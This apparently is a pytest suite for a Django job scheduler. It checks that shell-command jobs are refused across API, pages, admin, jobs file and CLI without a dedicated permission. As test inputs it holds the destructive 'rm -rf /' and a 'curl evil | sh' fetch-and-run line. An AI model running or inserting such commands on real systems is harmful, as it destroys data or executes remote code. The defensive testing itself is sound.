"""Command jobs run a shell command on the workers: without the jobs.run_command_jobs permission (the
"Command job runners" group) nobody creates, changes, runs, pauses, resumes, backfills, cancels or
deletes one, through the API, the pages, the admin, a jobs file or the command line. Being staff,
or holding every other permission on jobs, is not enough."""

from io import StringIO

import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.contrib.auth.models import Permission
from django.core.management import CommandError, call_command

from audit.models import AuditEntry
from jobs import lifecycle
from jobs.definitions.jobs import save_job
from jobs.models import Job, JobRun
from workflows.models import Workflow


@pytest.fixture
def command_job(people):
    return save_job(Job(name="backup", kind="command", target="echo backing-up", owner=people.runner,
                        group=people.team, description="as it was"), {"type": "cron", "cron": "0 3 * * *"})


def all_job_permissions(user):
    user.user_permissions.add(*Permission.objects.filter(content_type__app_label="jobs").exclude(
        codename="run_command_jobs"))
    user.is_staff = True
    user.save()
    return type(user).objects.get(pk=user.pk)  # a fresh permission cache


def unchanged(job):
    fresh = Job.objects.get(pk=job.pk)
    assert (fresh.target, fresh.description, fresh.enabled, fresh.next_run_at) == (
        job.target, job.description, job.enabled, job.next_run_at)
    assert not JobRun.objects.filter(job=job).exclude(pk__in=[]).exists()
    assert not AuditEntry.objects.filter(job=job).exists()


@pytest.mark.parametrize("who", ["owner", "staff", "all_job_permissions"])
def test_no_command_job_is_created_through_the_api_without_the_permission(people, who):
    user = all_job_permissions(people.teammate) if who == "all_job_permissions" else getattr(people, who)
    response = people.api(user).post("/api/jobs/", {"name": "rm", "kind": "command", "target": "rm -rf /"},
                                     format="json")
    assert response.status_code == 403 and "run_command_jobs" in response.json()["detail"]
    assert not Job.objects.exists()


@pytest.mark.parametrize("method, suffix, body", [
    ("patch", "", {"target": "curl evil | sh"}), ("put", "", {"name": "backup", "kind": "command", "target": "x"}),
    ("delete", "", None), ("post", "run/", None), ("post", "pause/", None), ("post", "resume/", None),
    ("post", "backfill/", {"start": "2026-01-01T00:00:00Z", "end": "2026-01-03T00:00:00Z"}),
])
def test_a_teammate_without_the_permission_cannot_act_on_a_command_job_through_the_api(
        people, command_job, method, suffix, body):
    client = people.api(all_job_permissions(people.teammate))
    response = getattr(client, method)(f"/api/jobs/{command_job.pk}/{suffix}", body, format="json")
    assert response.status_code == 403
    unchanged(command_job)


def test_a_callable_job_cannot_be_turned_into_a_command_job(people, owned_job):
    response = people.api(people.owner).patch(f"/api/jobs/{owned_job.pk}/", {"kind": "command", "target": "id"},
                                              format="json")
    assert response.status_code == 403
    assert Job.objects.get(pk=owned_job.pk).kind == "callable"


def test_a_run_of_a_command_job_cannot_be_cancelled_without_the_permission(people, command_job):
    run = lifecycle.create_run(command_job)
    assert people.api(people.teammate).post(f"/api/runs/{run.pk}/cancel/").status_code == 403
    assert JobRun.objects.get(pk=run.pk).status == "queued"


@pytest.mark.parametrize("action", ["run", "pause", "resume", "backfill"])
def test_the_pages_refuse_a_command_job_without_the_permission(client, people, command_job, action):
    client.force_login(people.teammate)
    data = {"from": "2026-01-01T00:00", "to": "2026-01-02T00:00", "confirm": "1"} if action == "backfill" else {}
    assert client.post(f"/jobs/{command_job.pk}/{action}/", data).status_code == 403
    unchanged(command_job)


def test_the_run_page_refuses_to_cancel_a_command_run(client, people, command_job):
    run = lifecycle.create_run(command_job)
    client.force_login(people.teammate)
    assert client.post(f"/runs/{run.pk}/cancel/").status_code == 403
    assert JobRun.objects.get(pk=run.pk).status == "queued"


@pytest.mark.parametrize("action", ["run_selected_now", "pause_selected", "resume_selected", "clone_selected"])
def test_admin_actions_refuse_command_jobs_without_the_permission(client, people, command_job, action):
    client.force_login(all_job_permissions(people.staff))
    response = client.post("/admin/jobs/job/", {"action": action, ACTION_CHECKBOX_NAME: [command_job.pk]},
                           follow=True)
    assert "jobs.run_command_jobs permission" in response.content.decode()
    unchanged(command_job)
    assert Job.objects.count() == 1


def test_admin_forms_refuse_command_jobs_without_the_permission(client, people, command_job, owned_job):
    client.force_login(all_job_permissions(people.staff))
    change = client.post(f"/admin/jobs/job/{command_job.pk}/change/", {"name": "backup", "target": "id"})
    assert change.status_code == 403
    assert client.post(f"/admin/jobs/job/{command_job.pk}/delete/", {"post": "yes"}).status_code == 403
    unchanged(command_job)
    page = client.get(f"/admin/jobs/job/{owned_job.pk}/change/")
    form = page.context["adminform"].form
    data = {**{k: v for k, v in form.initial.items() if isinstance(v, str | int)}, "kind": "command", "target": "id"}
    response = client.post(f"/admin/jobs/job/{owned_job.pk}/change/", data)
    assert "run_command_jobs" in str(response.context["adminform"].form.errors.get("kind"))
    assert Job.objects.get(pk=owned_job.pk).kind == "callable"


def test_admin_cannot_cancel_command_runs_without_the_permission(client, people, command_job):
    run = lifecycle.create_run(command_job)
    staff = all_job_permissions(people.staff)
    client.force_login(staff)
    response = client.post("/admin/jobs/jobrun/", {"action": "cancel_selected", ACTION_CHECKBOX_NAME: [run.pk]},
                           follow=True)
    assert "jobs.run_command_jobs permission" in response.content.decode()
    assert JobRun.objects.get(pk=run.pk).status == "queued"


def test_every_admin_action_declares_its_permission():
    from django.contrib import admin

    for model_admin in admin.site._registry.values():
        for name in model_admin.actions or ():
            action = getattr(model_admin, name) if isinstance(name, str) else name
            assert getattr(action, "allowed_permissions", None), f"{type(model_admin).__name__}.{name}"


def test_a_jobs_file_applied_as_a_user_without_the_permission_adds_no_command_job(people, tmp_path):
    path = tmp_path / "jobs.yaml"
    path.write_text("jobs:\n- name: rm\n  kind: command\n  target: rm -rf /\n  schedule: {type: manual}\n")
    with pytest.raises(CommandError, match="run_command_jobs"):
        call_command("jobs", "--as", "teammate", "apply", str(path), stdout=StringIO())
    assert not Job.objects.exists()
    call_command("jobs", "--as", "runner", "apply", str(path), stdout=StringIO())  # the group's member may
    assert Job.objects.get(name="rm").owner == people.runner


@pytest.mark.parametrize("action", ["run", "pause", "resume"])
def test_the_command_line_as_a_user_refuses_command_jobs(people, command_job, action):
    with pytest.raises(CommandError, match="run_command_jobs"):
        call_command("jobs", "--as", "teammate", action, "backup", stdout=StringIO())
    unchanged(command_job)


def test_a_workflow_with_a_command_job_is_not_run_without_the_permission(people, command_job):
    runner = people.api(people.runner)
    created = runner.post("/api/workflows/", {"name": "nightly", "group": "team", "nodes": ["backup"], "edges": []},
                          format="json")
    assert created.status_code == 201, created.json()
    assert people.api(people.teammate).post(f"/api/workflows/{created.json()['id']}/run/").status_code == 403
    assert not Workflow.objects.get().runs.exists()


def test_the_group_gives_the_permission(people):
    """The control: a member of "Command job runners" does all of it."""
    response = people.api(people.runner).post("/api/jobs/", {"name": "ok", "kind": "command", "target": "true"},
                                              format="json")
    assert response.status_code == 201
    assert people.api(people.runner).post(f"/api/jobs/{response.json()['id']}/run/").status_code == 202
